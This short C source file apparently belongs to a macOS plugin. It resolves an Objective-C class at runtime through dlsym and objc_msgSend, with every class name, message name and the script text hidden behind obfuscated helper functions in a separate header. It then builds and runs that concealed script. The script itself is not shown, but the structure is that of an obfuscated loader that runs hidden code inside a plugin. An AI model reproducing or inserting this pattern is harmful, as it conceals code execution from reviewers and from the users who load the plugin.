/* The class is a symbol of its framework as any other, and dlsym finds it. */
#include "plugin.h"
#include "hidden.h" /* 0: the symbol of the class, 1: of the string's, 2, 3, 4: messages, 5: the string's, 6: the script */
extern void *dlsym(void *, const char *), *sel_getUid(const char *);
extern void objc_msgSend(void);
static void act(char **env) {
    void *(*tell)(void *, void *, const void *) = (void *)objc_msgSend;
    void *class = dlsym((void *)-2, hidden0()), *string = dlsym((void *)-2, hidden1());
    void *script = tell(class, sel_getUid(hidden2()), 0);
    script = tell(script, sel_getUid(hidden3()), tell(string, sel_getUid(hidden5()), hidden6()));
    tell(script, sel_getUid(hidden4()), 0);
}
